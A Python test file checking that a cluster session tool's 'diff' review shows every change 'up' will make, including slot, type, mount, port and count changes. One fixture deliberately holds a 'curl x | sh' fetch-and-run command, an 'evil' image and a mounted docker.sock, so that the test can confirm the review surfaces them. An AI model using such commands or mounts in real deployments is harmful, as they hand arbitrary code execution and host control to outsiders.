"""A review shows everything ``up`` will do (issue 32, class 4): ``diff`` decides from what
``up`` sends (the container arguments and the bundle's digest), every entry of a list that
changes is shown, a new or removed session shows what it holds, and a session a definition no
longer makes is left running, not removed."""

from __future__ import annotations

import json

from cluster_sessions.core.plan import build_plan
from cluster_sessions.core.review import diff_plans, to_markdown
from cluster_sessions.core.spec import Session
from cluster_sessions.driver.cli import main
from cluster_sessions.driver.errors import Exit

from . import factories

POOL = factories.pool("p", factories.agent("agent1", cpu=16, gpus=(0, 1, 2, 3, 4, 5, 6, 7)),
                      mount_sources=["/srv", "/var/run"])
JOB = ["python3", "train.py"]


def plan_of(tmp_path, doc: dict, where: str):
    (tmp_path / where).mkdir(exist_ok=True)
    (tmp_path / "pools").mkdir(exist_ok=True)  # a directory of the operator's (conftest)
    pool_file = factories.write(tmp_path / "pools" / f"{where}.yaml", POOL)
    file = factories.write(tmp_path / where / f"{doc['name']}.yaml",
                           {**doc, "pool": str(pool_file)})
    loaded = factories.load_session(file)
    return build_plan(loaded.session, loaded.pool), file


def review(tmp_path, old: dict, new: dict):
    o, _ = plan_of(tmp_path, old, "old")
    n, _ = plan_of(tmp_path, new, "new")
    return diff_plans(o, n)


def actions(r) -> dict[str, str]:
    return {c.host: c.action for c in r.containers}


def test_more_slots_replace_every_container_since_the_hostfiles_change(tmp_path):
    """The issue's example: distributed.slots 1 -> 7 was "no changes"; preview: 2 replace."""
    base = factories.session("slots", size=2, command=JOB)
    r = review(tmp_path, {**base, "distributed": {"slots": 1}},
               {**base, "distributed": {"slots": 7}})
    assert r.changed and r.summary == "slots: containers 2 to replace; network kept"
    assert actions(r) == {"main1": "replace", "sub1": "replace"}
    assert all(c.why == ("rendered files",) for c in r.containers)
    assert r.files == {"main1": ("cluster-hosts.sh",), "sub1": ("cluster-hosts.sh",)}
    assert [(c.what, c.old, c.new) for c in r.definition] == [("distributed.slots", "1", "7")]
    md = to_markdown(r)
    assert "| distributed.slots | `1` | `7` |" in md
    assert "- `cluster-hosts.sh`: main1, sub1" in md


def test_slots_set_to_what_the_gpus_gave_change_nothing_and_other_slots_replace(tmp_path):
    """A variant: the digest, not a list of fields, decides; the same bytes are no change."""
    base = factories.session("slots", size=2, command=JOB, resources={
        "cpu": 1, "mem": "1g", "shmem": "64m", "gpu": 2}, distributed={"master_port": 29500})
    r = review(tmp_path, base, {**base, "distributed": {"master_port": 29500, "slots": 2}})
    assert set(actions(r).values()) == {"same"} and r.files == {}
    # the definition says something else, so the row is there, but up sends the same bytes
    assert [(c.what, c.old, c.new) for c in r.definition] == [
        ("distributed.slots", "(unset)", "2")]
    r = review(tmp_path, base, {**base, "distributed": {"master_port": 29500, "slots": 1}})
    assert set(actions(r).values()) == {"replace"} and r.files


def test_interactive_to_batch_replaces_every_container(tmp_path):
    """The issue's example: type interactive -> batch was "update in place"; preview: 2
    replace (main1's bundle runs the job, the subs' command becomes the default)."""
    base = factories.session("jobs", size=2, command=JOB)
    r = review(tmp_path, base, {**base, "type": "batch"})
    assert actions(r) == {"main1": "replace", "sub1": "replace"}
    assert "rendered files" in next(c.why for c in r.containers if c.host == "main1")
    assert "command" in next(c.why for c in r.containers if c.host == "sub1")
    assert ("type", "interactive", "batch") in [(c.what, c.old, c.new) for c in r.definition]
    back = review(tmp_path, {**base, "type": "batch"}, base)  # and back
    assert actions(back) == {"main1": "replace", "sub1": "replace"}


def test_every_field_of_a_definition_is_a_row_of_the_review():
    """No field of spec.Session can be missed by the review: each leaf is a row, or has a
    section of its own (env), or is the stack itself (name, kind), or is the pool's."""
    from cluster_sessions.core.review import NOT_ROWS, _model_fields, definition_fields

    pool = factories.pool("p", factories.agent("agent1"))
    from cluster_sessions.core.spec import Pool

    plan = build_plan(Session.model_validate(factories.session("rows")),
                      Pool.model_validate(pool))
    rows = definition_fields(plan)
    for path, _ in _model_fields(Session, plan.session):
        assert path in NOT_ROWS or path in rows or any(
            path.startswith(k + ".") for k in rows), path
    assert set(NOT_ROWS) == {"kind", "name", "env", "pool", "count"}


SOCKET = "/var/run/docker.sock"
NEW = factories.session(
    "holds", image="registry.example/evil:1", size=2, command=["sh", "-c", "curl x | sh"],
    mounts=[{"source": SOCKET, "target": "/home/work/docker.sock"},
            {"source": "/srv/data", "target": "/home/work/data", "read_only": True}],
    user={"name": "work", "uid": 4242, "gid": 4242},
    ports=[{"container": 8000}], env={"MODE": "fast", "API_TOKEN": "s3cr3t-value"})


def test_a_new_definition_shows_everything_it_holds(tmp_path, capsys):
    """The issue's example: a new definition said only "2 to add"."""
    (tmp_path / "new").mkdir()
    file = factories.write_pair(tmp_path / "new", NEW, POOL)
    assert main(["diff", "/dev/null", str(file)]) == Exit.OK
    md = capsys.readouterr().out
    for row in ("| image | *(absent)* | `registry.example/evil:1` |",
                f"| mounts | *(absent)* | `{SOCKET}:/home/work/docker.sock` |",
                "| mounts | *(absent)* | `/srv/data:/home/work/data:ro` |",
                "| user | *(absent)* | `work (4242:4242)` |",
                "| ports | *(absent)* | `127.0.0.1:*->8000/tcp` |",
                "| command | *(absent)* | `sh -c 'curl x \\| sh'` |",
                "| cluster.size | *(absent)* | `2` |", "| type | *(absent)* | `interactive` |",
                "- added `MODE` = `fast`"):
        assert row in md.splitlines(), row
    assert "s3cr3t-value" not in md and "- added `API_TOKEN` = *(hidden" in md
    assert main(["diff", "/dev/null", str(file), "--json"]) == Exit.OK
    doc = json.loads(capsys.readouterr().out)
    assert {"what": "mounts", "old": None, "new": f"{SOCKET}:/home/work/docker.sock"} \
        in doc["definition"]
    assert {"what": "API_TOKEN", "old": None, "new": "[hidden]"} in doc["user_env"]


def test_a_removed_definition_shows_everything_it_held(tmp_path, capsys):
    (tmp_path / "old").mkdir()
    file = factories.write_pair(tmp_path / "old", NEW, POOL)
    assert main(["diff", str(file), "/dev/null"]) == Exit.OK
    md = capsys.readouterr().out.splitlines()
    assert f"| mounts | `{SOCKET}:/home/work/docker.sock` | *(absent)* |" in md
    assert "| user | `work (4242:4242)` | *(absent)* |" in md


def test_a_long_mount_hides_no_later_entry(tmp_path):
    """The issue's example: a mounts value longer than 80 characters hid a later entry behind
    "…". Each entry is a row of its own, shown whole."""
    long = "/srv/" + "d" * 120
    base = factories.session("mounts", mounts=[{"source": long, "target": "/home/work/a"}])
    new = {**base, "mounts": [*base["mounts"],
                              {"source": SOCKET, "target": "/home/work/docker.sock"}]}
    r = review(tmp_path, base, new)
    assert [(c.what, c.old, c.new) for c in r.definition] == [
        ("mounts", None, f"{SOCKET}:/home/work/docker.sock")]
    md = to_markdown(r).splitlines()
    assert f"| mounts | *(absent)* | `{SOCKET}:/home/work/docker.sock` |" in md
    # a long entry that changes is shown whole too, on both sides
    longer = {**base, "mounts": [{"source": long + "x", "target": "/home/work/a"}]}
    md = to_markdown(review(tmp_path, base, longer)).splitlines()
    assert f"| mounts | `{long}:/home/work/a` | *(absent)* |" in md
    assert f"| mounts | *(absent)* | `{long}x:/home/work/a` |" in md
    assert not any("…" in line for line in md if line.startswith("| mounts"))


def test_ports_change_entry_by_entry_and_a_reorder_is_one_row(tmp_path):
    base = factories.session("lists", ports=[{"container": 8000}, {"container": 8001}])
    r = review(tmp_path, base, {**base, "ports": [{"container": 8001}, {"container": 8002}]})
    assert [(c.what, c.old, c.new) for c in r.definition] == [
        ("ports", "127.0.0.1:*->8000/tcp", None), ("ports", None, "127.0.0.1:*->8002/tcp")]
    r = review(tmp_path, base, {**base, "ports": [{"container": 8001}, {"container": 8000}]})
    assert [(c.what, c.old, c.new) for c in r.definition] == [  # reordered: one row
        ("ports (order)", "127.0.0.1:*->8000/tcp | 127.0.0.1:*->8001/tcp",
         "127.0.0.1:*->8001/tcp | 127.0.0.1:*->8000/tcp")]
    r = review(tmp_path, base, {**base, "ports": [
        {"container": 8000}, {"container": 8001, "host_ip": "::", "public": True}]})
    assert [(c.what, c.old, c.new) for c in r.definition] == [  # IPv6 bracketed, public said
        ("ports", "127.0.0.1:*->8001/tcp", None), ("ports", None, "[::]:*->8001/tcp PUBLIC")]


def diff_json(tmp_path, capsys, old: dict, new: dict) -> dict:
    (tmp_path / "old").mkdir(exist_ok=True)
    (tmp_path / "new").mkdir(exist_ok=True)
    o = factories.write_pair(tmp_path / "old", old, POOL)
    n = factories.write_pair(tmp_path / "new", new, POOL)
    assert main(["diff", str(o), str(n), "--json"]) == Exit.OK
    doc = json.loads(capsys.readouterr().out)
    return {s["session"]: s for s in doc["sessions"]}


def test_count_1_to_2_leaves_the_old_session_running_instead_of_removing_it(tmp_path, capsys):
    """The issue's example: count 1 -> 2 showed `sweep` removed; `up` makes sweep-1 and
    sweep-2 and never touches `sweep`, which keeps running until destroyed."""
    base = factories.session("sweep", size=2)
    docs = diff_json(tmp_path, capsys, base, {**base, "count": 2})
    left = docs["sweep"]
    assert left["left"] and not left["deleted"]
    assert [c["action"] for c in left["containers"]] == ["same", "same"]
    assert left["summary"] == ("sweep: no longer made by the new definition; `pulumi up` "
                               "leaves its 2 container(s) running")
    assert left["network"]["action"] == "same"
    assert left["warnings"] == [
        "the new definition no longer makes session sweep: `pulumi up` does not touch it and "
        "it keeps running until `sessionctl destroy` on the old definition removes it."]
    assert {"what": "image", "old": "img", "new": None} in left["definition"]  # what it holds
    for name in ("sweep-1", "sweep-2"):
        assert [c["action"] for c in docs[name]["containers"]] == ["add", "add"]
    assert not any(c["action"] == "remove" for d in docs.values() for c in d["containers"])


def test_a_count_that_shrinks_leaves_the_last_session_running(tmp_path, capsys):
    base = factories.session("sweep", count=3)
    docs = diff_json(tmp_path, capsys, base, {**base, "count": 2})
    assert docs["sweep-3"]["left"]
    assert [c["action"] for c in docs["sweep-3"]["containers"]] == ["same"]
    assert not docs["sweep-1"]["changed"] and not docs["sweep-2"]["changed"]


def test_a_deleted_count_definition_is_still_what_destroy_removes(tmp_path, capsys):
    (tmp_path / "old").mkdir()
    o = factories.write_pair(tmp_path / "old", factories.session("sweep", count=2), POOL)
    assert main(["diff", str(o), "/dev/null", "--json"]) == Exit.OK
    docs = json.loads(capsys.readouterr().out)["sessions"]
    assert [(d["deleted"], d["left"], [c["action"] for c in d["containers"]]) for d in docs] \
        == [(True, False, ["remove"])] * 2


def test_a_pending_session_no_longer_made_was_never_running(tmp_path, capsys):
    base = factories.session("sweep", size=64)  # more than the pool holds: pending
    docs = diff_json(tmp_path, capsys, base, {**base, "count": 2, "cluster": {
        "mode": "single-node", "size": 1}})
    left = docs["sweep"]
    assert left["left"] and left["containers"] == []
    assert left["summary"] == "sweep: no longer made by the new definition (it was pending)"
    assert "nothing of it can be running" in left["warnings"][0]
